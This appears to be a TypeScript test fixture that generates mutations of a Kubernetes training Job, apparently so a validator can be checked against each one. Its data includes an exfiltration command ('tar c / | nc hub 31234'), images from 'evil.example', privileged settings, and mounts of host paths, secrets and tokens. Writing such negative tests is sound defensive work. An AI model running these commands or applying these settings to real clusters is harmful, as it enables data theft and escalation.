import type { RenderedObject } from "../charts.ts";

/** A change of an honest Job by which something would reach a member that its admin did not offer. */
export interface JobMutation {
  readonly name: string;
  // biome-ignore lint/suspicious/noExplicitAny: changes reach into every part of a Job
  readonly change: (job: any) => void;
}

/** Name of the change that writes runtime and data set into one label. */
export const joinedLabels = "runtime and data set joined in one label";

type Job = Parameters<JobMutation["change"]>[0];

const pod = (job: Job) => job.spec.template.spec;
const trainer = (job: Job) => pod(job).containers[0];
const sidecar = (job: Job) => pod(job).initContainers[0];
const podMeta = (job: Job) => job.spec.template.metadata;
const secured = {
  allowPrivilegeEscalation: false,
  runAsNonRoot: true,
  runAsUser: 65532,
  capabilities: { drop: ["ALL"] },
};
const extra = { name: "extra", image: "evil.example/extra:1", command: ["sh"], securityContext: secured };

/** A field of the pod's own spec, at a value that no runtime of these tests has. */
const podFields: Readonly<Record<string, unknown>> = {
  hostNetwork: true,
  hostPID: true,
  hostIPC: true,
  shareProcessNamespace: true,
  serviceAccountName: "tributary-hub",
  automountServiceAccountToken: true,
  nodeName: "node-1",
  nodeSelector: { pool: "finance" },
  schedulerName: "evil-scheduler",
  priorityClassName: "system-node-critical",
  runtimeClassName: "unconfined",
  preemptionPolicy: "Never",
  dnsPolicy: "ClusterFirst",
  dnsConfig: { nameservers: ["192.0.2.53"] },
  hostAliases: [{ ip: "192.0.2.66", hostnames: ["tributary-gate"] }],
  hostname: "tributary-gate",
  subdomain: "gate",
  setHostnameAsFQDN: true,
  enableServiceLinks: true,
  terminationGracePeriodSeconds: 86_400,
  activeDeadlineSeconds: 60,
  imagePullSecrets: [{ name: "registry-of-others" }],
  tolerations: [{ operator: "Exists" }],
  affinity: {
    podAffinity: {
      requiredDuringSchedulingIgnoredDuringExecution: [
        { topologyKey: "kubernetes.io/hostname", labelSelector: { matchLabels: { app: "vault" } } },
      ],
    },
  },
  topologySpreadConstraints: [
    { maxSkew: 1, topologyKey: "zone", whenUnsatisfiable: "DoNotSchedule", labelSelector: { matchLabels: { a: "b" } } },
  ],
  securityContext: { runAsUser: 0 },
  readinessGates: [{ conditionType: "example.com/ready" }],
  schedulingGates: [{ name: "example.com/held" }],
  os: { name: "linux" },
  overhead: { cpu: "1" },
  resourceClaims: [{ name: "gpu", resourceClaimName: "gpu-of-others" }],
  hostUsers: false,
  restartPolicy: "OnFailure",
};

const trainerFields: Readonly<Record<string, unknown>> = {
  image: "evil.example/trainer:1",
  imagePullPolicy: "Always",
  command: ["sh", "-c", "tar c / | nc hub 31234"],
  args: ["--leak"],
  workingDir: "/var/lib/tributary/dataset",
  envFrom: [{ secretRef: { name: "any-secret-of-the-namespace" } }],
  ports: [{ containerPort: 8080 }],
  lifecycle: { postStart: { exec: { command: ["sh"] } } },
  livenessProbe: { exec: { command: ["sh"] } },
  readinessProbe: { httpGet: { path: "/", port: 80, host: "192.0.2.66" } },
  startupProbe: { tcpSocket: { port: 80 } },
  securityContext: { privileged: true },
  stdin: true,
  tty: true,
  terminationMessagePath: "/var/lib/tributary/dataset/x",
  terminationMessagePolicy: "FallbackToLogsOnError",
};

const sidecarFields: Readonly<Record<string, unknown>> = {
  image: "evil.example/sidecar:1",
  args: ["sidecar", "--no-clip"],
  command: ["sh"],
  envFrom: [{ configMapRef: { name: "kube-root-ca.crt" } }],
  securityContext: { readOnlyRootFilesystem: false },
  imagePullPolicy: "Always",
  lifecycle: { preStop: { exec: { command: ["sh"] } } },
  workingDir: "/",
  resources: { limits: { memory: "512Gi" } },
};

const volumes: Readonly<Record<string, object>> = {
  hostPath: { hostPath: { path: "/" } },
  secret: { secret: { secretName: "any-secret-of-the-namespace" } },
  configMap: { configMap: { name: "kube-root-ca.crt" } },
  "a claim of others": { persistentVolumeClaim: { claimName: "other" } },
  "a token of the account": {
    projected: { sources: [{ serviceAccountToken: { path: "t", audience: "https://kubernetes.default.svc" } }] },
  },
  "a projected Secret": { projected: { sources: [{ secret: { name: "any-secret-of-the-namespace" } }] } },
  nfs: { nfs: { server: "192.0.2.66", path: "/" } },
  csi: { csi: { driver: "secrets-store.csi.k8s.io", readOnly: true } },
  ephemeral: {
    ephemeral: {
      volumeClaimTemplate: {
        spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Ti" } } },
      },
    },
  },
  downwardAPI: { downwardAPI: { items: [{ path: "labels", fieldRef: { fieldPath: "metadata.labels" } }] } },
  emptyDir: { emptyDir: { sizeLimit: "1Ti" } },
};

const setEach = (fields: Readonly<Record<string, unknown>>, what: string, target: (job: Job) => Job): JobMutation[] =>
  Object.entries(fields).map(([field, value]) => ({
    name: `${what} ${field}`,
    change: (job) => {
      target(job)[field] = structuredClone(value);
      if (what === "pod" && field === "serviceAccountName") pod(job).serviceAccount = value;
    },
  }));

const environment: JobMutation[] = [
  ["a value", { name: "X", value: "y" }],
  ["a Secret", { name: "X", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }],
  ["a ConfigMap", { name: "X", valueFrom: { configMapKeyRef: { name: "c", key: "k" } } }],
  ["the node", { name: "X", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } }],
].flatMap(([what, entry]) => [
  { name: `trainer env of ${what}`, change: (job: Job) => trainer(job).env.push(structuredClone(entry)) },
  { name: `sidecar env of ${what}`, change: (job: Job) => sidecar(job).env.push(structuredClone(entry)) },
]);

const mounted: JobMutation[] = Object.entries(volumes).flatMap(([kind, source]) => [
  {
    name: `another volume, ${kind}, in the trainer`,
    change: (job: Job) => {
      pod(job).volumes.push({ name: "loot", ...structuredClone(source) });
      trainer(job).volumeMounts.push({ name: "loot", mountPath: "/loot" });
    },
  },
  {
    name: `tmp becomes ${kind}`,
    change: (job: Job) => {
      const tmp = pod(job).volumes.findIndex((volume: { name: string }) => volume.name === "tmp");
      pod(job).volumes[tmp] = { name: "tmp", ...structuredClone(source) };
    },
  },
  {
    name: `the parameters become ${kind}`,
    change: (job: Job) => {
      const at = pod(job).volumes.findIndex((volume: { name: string }) => volume.name === "tributary-parameters");
      pod(job).volumes[at] = { name: "tributary-parameters", ...structuredClone(source) };
    },
  },
]);

const containers: JobMutation[] = [
  { name: "another container", change: (job) => pod(job).containers.push(structuredClone(extra)) },
  { name: "another container first", change: (job) => pod(job).containers.unshift(structuredClone(extra)) },
  { name: "another init container", change: (job) => pod(job).initContainers.push(structuredClone(extra)) },
  {
    name: "another native sidecar",
    change: (job) => pod(job).initContainers.unshift({ ...structuredClone(extra), restartPolicy: "Always" }),
  },
  { name: "no sidecar", change: (job) => delete pod(job).initContainers },
  { name: "the sidecar ends first", change: (job) => delete sidecar(job).restartPolicy },
  { name: "the trainer is renamed", change: (job) => (trainer(job).name = "trainer2") },
  {
    name: "the trainer is replaced under another name",
    change: (job) => (pod(job).containers = [structuredClone(extra)]),
  },
  {
    name: "the trainer sees the sidecar's memory",
    change: (job) => trainer(job).volumeMounts.push({ name: "tributary-memory", mountPath: "/m" }),
  },
  {
    name: "the trainer sees the sidecar's token",
    change: (job) => trainer(job).volumeMounts.push({ name: "tributary-token", mountPath: "/t" }),
  },
  {
    name: "the trainer mounts tmp elsewhere",
    change: (job) => (trainer(job).volumeMounts.at(-1).mountPath = "/var/run/secrets"),
  },
  {
    name: "the trainer mounts a folder of the volume",
    change: (job) => (trainer(job).volumeMounts[0].subPath = "up"),
  },
  { name: "the sidecar has another gate", change: (job) => (sidecar(job).env[0].value = "192.0.2.66:8445") },
  { name: "the sidecar asks another gate", change: (job) => (sidecar(job).env[1].value = "192.0.2.66:8446") },
  { name: "the sidecar asks no gate", change: (job) => sidecar(job).env.splice(1, 1) },
  { name: "the sidecar has no variables", change: (job) => delete sidecar(job).env },
  { name: "the sidecar has no probes", change: (job) => delete sidecar(job).livenessProbe },
];

const resources: JobMutation[] = [
  { name: "more memory", change: (job) => (trainer(job).resources.limits.memory = "512Gi") },
  { name: "no limits", change: (job) => delete trainer(job).resources.limits },
  { name: "no requests", change: (job) => delete trainer(job).resources.requests },
  { name: "no resources", change: (job) => delete trainer(job).resources },
  { name: "more processors", change: (job) => (trainer(job).resources.requests.cpu = "64") },
  { name: "a limit of processors", change: (job) => (trainer(job).resources.limits.cpu = "64") },
  { name: "ephemeral storage", change: (job) => (trainer(job).resources.limits["ephemeral-storage"] = "1Ti") },
  { name: "huge pages", change: (job) => (trainer(job).resources.limits["hugepages-2Mi"] = "2Mi") },
  ...["nvidia.com/gpu", "amd.com/gpu", "example.com/fpga"].map((resource) => ({
    name: `99 ${resource}`,
    change: (job: Job) => {
      trainer(job).resources.limits[resource] = "99";
      trainer(job).resources.requests[resource] = "99";
    },
  })),
  { name: "resource claims", change: (job) => (trainer(job).resources.claims = [{ name: "gpu" }]) },
];

const labelled = (key: string, value: string): JobMutation => ({
  name: `label ${key}=${value}`,
  change: (job) => (job.metadata.labels[key] = value),
});
const podLabelled = (key: string, value: string): JobMutation => ({
  name: `pod label ${key}=${value}`,
  change: (job) => (podMeta(job).labels[key] = value),
});

const metadata: JobMutation[] = [
  labelled("tributary.dev/runtime", "tfjs.notes-aws"),
  labelled("tributary.dev/runtime", "torch"),
  labelled("tributary.dev/runtime", "-"),
  labelled("tributary.dev/dataset", ""),
  labelled("tributary.dev/dataset", "other"),
  labelled("tributary.dev/dataset", "tfjs.notes-aws"),
  labelled("kueue.x-k8s.io/queue-name", "finance"),
  labelled("app.kubernetes.io/instance", "vault"),
  podLabelled("app", "vault"),
  podLabelled("sidecar.istio.io/inject", "true"),
  podLabelled("app.kubernetes.io/name", "tributary-gate"),
  podLabelled("tributary.dev/component", "gate"),
  podLabelled("tributary.dev/job-uid", "d8c1f9de-0000-4a57-9d7c-1f1d1a2b3c4d"),
  podLabelled("tributary.dev/participant", "another"),
  podLabelled("tributary.dev/runtime", "torch"),
  podLabelled("tributary.dev/anything", "else"),
  { name: "no origin", change: (job) => delete job.metadata.labels["tributary.dev/origin"] },
  { name: "no runtime", change: (job) => delete job.metadata.labels["tributary.dev/runtime"] },
  { name: "no labels", change: (job) => delete job.metadata.labels },
  {
    name: joinedLabels,
    change: (job) => {
      const { labels } = job.metadata;
      labels["tributary.dev/runtime"] = ["tributary.dev/runtime", "tributary.dev/dataset"]
        .map((key) => labels[key] ?? "none")
        .join(".");
      delete labels["tributary.dev/dataset"];
    },
  },
  {
    name: "runtime and data set changed over",
    change: (job) => {
      const { labels } = job.metadata;
      [labels["tributary.dev/runtime"], labels["tributary.dev/dataset"]] = ["notes-aws", "tfjs"];
    },
  },
  {
    name: "a pod annotation",
    change: (job) =>
      (podMeta(job).annotations = { "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined" }),
  },
  { name: "a pod finalizer", change: (job) => (podMeta(job).finalizers = ["example.com/keep"]) },
  { name: "no pod origin", change: (job) => delete podMeta(job).labels["tributary.dev/origin"] },
  { name: "no pod labels", change: (job) => delete podMeta(job).labels },
  { name: "a finalizer", change: (job) => (job.metadata.finalizers = ["example.com/keep"]) },
  { name: "an annotation", change: (job) => (job.metadata.annotations = { "example.com/sync": "now" }) },
  {
    name: "an owner among the member's own",
    change: (job) =>
      (job.metadata.ownerReferences = [
        { apiVersion: "batch/v1", kind: "CronJob", name: "backup", uid: "1", controller: true },
      ]),
  },
  {
    name: "an owner of another name",
    change: (job) =>
      (job.metadata.ownerReferences = [{ apiVersion: "v1", kind: "ConfigMap", name: "kube-root-ca.crt", uid: "1" }]),
  },
];

const jobSpec: JobMutation[] = [
  { name: "another controller", change: (job) => (job.spec.managedBy = "example.com/other") },
  {
    name: "its own selector",
    change: (job) => {
      job.spec.manualSelector = true;
      job.spec.selector = { matchLabels: { a: "b" } };
      podMeta(job).labels.a = "b";
    },
  },
  {
    name: "more workers than a job may have",
    change: (job) => {
      job.spec.completions = 9;
      job.spec.parallelism = 9;
    },
  },
  { name: "more completions than a job may have", change: (job) => (job.spec.completions = 9) },
  {
    name: "not indexed",
    change: (job) => {
      job.spec.completionMode = "NonIndexed";
      delete job.spec.backoffLimitPerIndex;
      delete job.spec.maxFailedIndexes;
    },
  },
  { name: "a success policy", change: (job) => (job.spec.successPolicy = { rules: [{ succeededIndexes: "0" }] }) },
  { name: "an end of its own", change: (job) => (job.spec.activeDeadlineSeconds = 1_000_000) },
  { name: "a life after its end", change: (job) => (job.spec.ttlSecondsAfterFinished = 1) },
];

/** Every single change of the generator. */
export const jobMutations: readonly JobMutation[] = [
  ...setEach(podFields, "pod", pod),
  ...setEach(trainerFields, "trainer", trainer),
  ...setEach(sidecarFields, "sidecar", sidecar),
  ...environment,
  ...mounted,
  ...containers,
  ...resources,
  ...metadata,
  ...jobSpec,
];

/** A copy of a Job with changes made in turn; undefined when one finds nothing to change. */
export function mutate(job: RenderedObject, changes: readonly JobMutation[]): RenderedObject | undefined {
  const copy = structuredClone(job);
  try {
    for (const { change } of changes) change(copy);
  } catch (error) {
    if (error instanceof TypeError) return undefined;
    throw error;
  }
  return copy;
}
